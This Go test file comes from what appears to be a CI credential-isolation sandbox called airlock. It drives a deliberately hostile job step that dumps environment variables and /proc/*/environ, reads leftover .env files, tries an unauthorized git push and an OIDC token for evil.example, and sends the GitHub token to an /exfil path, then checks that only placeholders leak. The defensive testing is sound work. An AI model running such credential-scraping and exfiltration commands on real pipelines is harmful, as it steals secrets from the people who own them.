package hook

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-ci/airlock/gvisor"
	"github.com/airlock-ci/airlock/internal/testhost"
	"github.com/airlock-ci/airlock/internal/testtool"
)

// fakeGitHubAddr is the loopback address the fake GitHub listens on
// (port 443), pinned by the policy for its names.
const fakeGitHubAddr = "127.0.0.77"

// fakeGitHub starts a fake GitHub on loopback, has the organisation
// policy reach it (and allow OIDC tokens for sts.amazonaws.com), and
// returns it with the variables the runner gives a step: its tokens
// and service URLs (the v2 cache service).
func (h *runnerHost) fakeGitHub(t *testing.T) (*testhost.GitHub, map[string]string) {
	return h.fakeGitHubAt(t, fakeGitHubAddr)
}

// fakeGitHubAt is fakeGitHub on another loopback address (a host of
// several runners, each with a GitHub of its own).
func (h *runnerHost) fakeGitHubAt(t *testing.T, addr string) (*testhost.GitHub, map[string]string) {
	gh := testhost.NewGitHub(t, addr, h.origin)
	resolve := ""
	for _, n := range testhost.GitHubHosts {
		resolve += fmt.Sprintf("%q: %q\n", n, addr)
	}
	os.WriteFile(filepath.Join(h.org, "github.cue"), []byte(`package airlock
egress: allow: [{host: "github.test", ports: [443]}, {host: "api.github.test", ports: [443]}]
egress: allowCIDRs: ["`+addr+`/32"]
egress: resolve: {
`+resolve+`}
credentials: oidc: audiences: ["sts.amazonaws.com"]
`), 0o644)
	h.env = append(h.env, "SSL_CERT_FILE="+gh.CAFile, "GITHUB_SERVER_URL="+testhost.GitHubServerURL, "GITHUB_API_URL="+testhost.GitHubAPIURL)
	return gh, map[string]string{
		"RUNNER_TEMP":                    "/__w/_temp",
		"GITHUB_TOKEN":                   gh.Token,
		"INPUT_TOKEN":                    gh.Token,
		"ACTIONS_RUNTIME_TOKEN":          gh.Runtime,
		"ACTIONS_RUNTIME_URL":            testhost.GitHubRuntime,
		"ACTIONS_RESULTS_URL":            testhost.GitHubResults,
		"ACTIONS_CACHE_SERVICE_V2":       "True",
		"ACTIONS_ID_TOKEN_REQUEST_URL":   testhost.GitHubOIDC,
		"ACTIONS_ID_TOKEN_REQUEST_TOKEN": gh.Runtime,
	}
}

// The job's credentials never enter its sandbox. Driven as the runner
// drives the hook, with the variables the runner passes (the runtime and
// OIDC request tokens, the GitHub token as GITHUB_TOKEN and as
// checkout's INPUT_TOKEN) and a fake GitHub on loopback: a hostile step
// that reads its environment, every process's environ, .git/config and
// $RUNNER_TEMP finds placeholders only; yet git fetch with checkout's
// extraheader, a cache restore, an artifact call, an OIDC token for an
// allowed audience and the REST API all work, the fake GitHub seeing
// the real values. An agent's cache save, git push and OIDC token for
// another audience are refused with the rule; a token sent elsewhere
// arrives as its useless placeholder. The attestation records it all,
// with no value, and redacts what the job masked.
func TestHookCredentials(t *testing.T) {
	h := newRunnerHost(t)
	testtool.InSandbox(t, testtool.Curl, gvisor.DefaultPath, "the job's hostile step calls the cache, artifact, OIDC and REST services with curl")
	gh, env := h.fakeGitHub(t)
	state := h.prepare()
	// The runner's own copy of the step's variables, as a file a
	// careless action could leave in the temp directory.
	os.WriteFile(filepath.Join(h.temp, "leftover.env"), []byte("from the runner host, not the job\n"), 0o644)
	script := `set +e
echo "== env"; env
echo "== environ"; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'
echo "== temp"; ls -la "$RUNNER_TEMP"; cat "$RUNNER_TEMP"/*.env "$RUNNER_TEMP"/*.sh 2>/dev/null
cd /__w/app/app
# actions/checkout v4 persists its token input so.
git config http.https://github.test/.extraheader "AUTHORIZATION: basic $(printf 'x-access-token:%s' "$INPUT_TOKEN" | base64 -w0)"
echo "== git config"; cat .git/config
git fetch -q https://github.test/acme/app.git HEAD && echo "fetch=ok"
git push https://github.test/acme/app.git HEAD:refs/heads/evil 2>&1 || echo "push=refused"
post() { curl -sS -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $ACTIONS_RUNTIME_TOKEN" -H 'Content-Type: application/json' -d "${2:-{\}}" "${ACTIONS_RESULTS_URL}twirp/github.actions.results.api.v1.$1"; }
echo "restore=$(post CacheService/GetCacheEntryDownloadURL)"
echo "save=$(post CacheService/CreateCacheEntry)"
curl -sS -D - -o /dev/null -X POST -H "Authorization: Bearer $ACTIONS_RUNTIME_TOKEN" -d '{}' "${ACTIONS_RESULTS_URL}twirp/github.actions.results.api.v1.CacheService/FinalizeCacheEntryUpload" | grep -i '^x-airlock-decision'
# The fake's artifact service wants the backend ids of the runtime token's scope.
echo "artifact=$(post ArtifactService/CreateArtifact '{"workflow_run_backend_id":"run-1","workflow_job_run_backend_id":"job-1","name":"logs","version":4}')"
# node (as actions/cache runs), which reads no proxy variable: straight to
# the service's address, TLS with the job's CA from NODE_EXTRA_CA_CERTS.
/__e/node20/bin/node -e 'fetch(process.env.ACTIONS_RESULTS_URL + "twirp/github.actions.results.api.v1.CacheService/GetCacheEntryDownloadURL", {method: "POST", headers: {Authorization: "Bearer " + process.env.ACTIONS_RUNTIME_TOKEN, "Content-Type": "application/json"}, body: "{}"}).then(r => console.log("node-restore=" + r.status), e => console.log("node-restore failed: " + e.cause))'

oidc() { curl -sS -o /tmp/oidc -w '%{http_code}' -H "Authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=$1"; }
echo "oidc-allowed=$(oidc sts.amazonaws.com) $(cat /tmp/oidc)"
echo "oidc-refused=$(oidc evil.example)"
echo "api=$(curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: token $GITHUB_TOKEN" https://api.github.test/repos/acme/app)"
curl -sS -o /dev/null -H "Authorization: Bearer $GITHUB_TOKEN" https://github.test/exfil
# The runner expands ${{ github.token }} into the script it writes.
echo "inline: INLINE_TOKEN"
# Another request to the runtime service with its token: refused.
echo "runtime-other=$(curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $ACTIONS_RUNTIME_TOKEN" "${ACTIONS_RUNTIME_URL}_apis/distributedtask/logs")"
# The cache save spelled otherwise.
echo "save-lower=$(post cacheservice/createcacheentry)"
echo "::add-mask::masked-value-12345"
/bin/echo "the masked value: masked-value-12345"
true`
	code, out := h.script(state, "bash", "--noprofile --norc -e -o pipefail {0}", strings.ReplaceAll(script, "INLINE_TOKEN", gh.Token), env)
	if code != 0 {
		t.Fatalf("step: exit %d: %s", code, out)
	}
	basic := base64.StdEncoding.EncodeToString([]byte("x-access-token:" + gh.Token))
	for _, secret := range []string{gh.Token, gh.Runtime, basic} {
		if strings.Contains(out, secret) {
			t.Fatalf("a real credential reached the sandbox:\n%s", out)
		}
	}
	for _, want := range []string{"GITHUB_TOKEN=ghs_", "ACTIONS_RUNTIME_TOKEN=ey", "extraheader = AUTHORIZATION: basic ", "fetch=ok", "restore=200", "node-restore=200",
		// A refused reservation is the cache service's own "no" (200, ok
		// false: runner/egress/refusal); the decision header says denied.
		"save=200", "save-lower=200",
		`credentials.cache`, "artifact=200", "oidc-allowed=200 {\"value\":\"oidc-token-for-sts.amazonaws.com\"}", "oidc-refused=403", "api=200", "push=refused",
		// remote-curl.c prints a text/plain refusal's lines as "remote: ...".
		"remote: airlock: denied GET github.test:443/acme/app.git/info/refs", "runtime-other=403", "inline: ghs_"} {
		if !strings.Contains(out, want) {
			t.Errorf("the step's output lacks %q:\n%s", want, out)
		}
	}
	// What the fake GitHub saw: real values where they belong, the
	// placeholder elsewhere, nothing of what the policy refused.
	bearer, runtime := "Bearer "+gh.Token, "Bearer "+gh.Runtime
	want := map[string]string{
		"github.test /acme/app.git/info/refs":                                                            "Basic " + basic,
		"github.test /acme/app.git/git-upload-pack":                                                      "Basic " + basic,
		"results.github.test /twirp/github.actions.results.api.v1.CacheService/GetCacheEntryDownloadURL": runtime,
		"results.github.test /twirp/github.actions.results.api.v1.ArtifactService/CreateArtifact":        runtime,
		"pipelines.github.test /runtime/oidc/token":                                                      runtime,
		"api.github.test /repos/acme/app":                                                                "token " + gh.Token,
	}
	for _, s := range gh.Requests() {
		key := s.Host + " " + s.Path
		switch {
		case strings.Contains(s.Path, "receive-pack") || strings.Contains(s.Query, "receive-pack"), strings.Contains(strings.ToLower(s.Path), "createcacheentry"), strings.Contains(s.Path, "FinalizeCacheEntryUpload"), strings.Contains(s.Query, "evil.example"), strings.Contains(s.Path, "distributedtask"):
			t.Errorf("a refused request reached GitHub: %+v", s)
		case s.Path == "/exfil":
			if s.Authorization == bearer || !strings.HasPrefix(s.Authorization, "Bearer ghs_") {
				t.Errorf("a token sent elsewhere arrived as %q, want its placeholder", s.Authorization)
			}
		case want[key] != "":
			if s.Authorization != want[key] {
				t.Errorf("%s: GitHub saw Authorization %.20q..., want the real credential", key, s.Authorization)
			}
			if s.Status == 200 {
				delete(want, key)
			}
		}
	}
	for k := range want {
		t.Errorf("no successful request with the real credential: %s", k)
	}
	if code, out := h.cleanup(state); code != 0 {
		t.Fatalf("cleanup: exit %d: %s", code, out)
	}
	bundle, v, _ := h.finalAttestation(h.head)
	raw, _ := os.ReadFile(bundle)
	for _, secret := range []string{gh.Token, gh.Runtime, basic, "masked-value-12345"} {
		if strings.Contains(string(raw), secret) || strings.Contains(string(v.Statement), secret) {
			t.Errorf("the attestation holds a withheld or masked value")
		}
	}
	c := v.Predicate.Credentials
	if c.Masked != 1 {
		t.Errorf("masked = %d, want 1", c.Masked)
	}
	withheld := map[string]bool{}
	for _, w := range c.Withheld {
		withheld[w.Name] = true
	}
	counts := map[string][3]int{}
	for _, u := range c.Uses {
		k := u.Credential + " " + u.Host + " " + u.Route
		n := counts[k]
		counts[k] = [3]int{n[0] + u.Injected, n[1] + u.Refused, n[2] + u.Elsewhere}
	}
	if !withheld["GitHub token"] || !withheld["runtime token"] {
		t.Errorf("withheld: %+v", c.Withheld)
	}
	// injected (at least: git may ask more than once), refused, elsewhere
	for k, n := range map[string][3]int{
		"GitHub token github.test git":                {2, 1, 0},
		"GitHub token api.github.test api":            {1, 0, 0},
		"GitHub token github.test ":                   {0, 0, 1},
		"runtime token results.github.test cache":     {2, 3, 0},
		"runtime token pipelines.github.test actions": {0, 1, 0},
		"runtime token results.github.test artifacts": {1, 0, 0},
		"runtime token pipelines.github.test oidc":    {1, 1, 0},
	} {
		if got := counts[k]; got[0] < n[0] || got[1] != n[1] || got[2] != n[2] {
			t.Errorf("%s: %d injected, %d refused, %d elsewhere; want %v", k, got[0], got[1], got[2], n)
		}
	}
	if !strings.Contains(string(v.Statement), "the masked value: ***") {
		t.Errorf("the masked value's command line is not redacted in the record")
	}
}
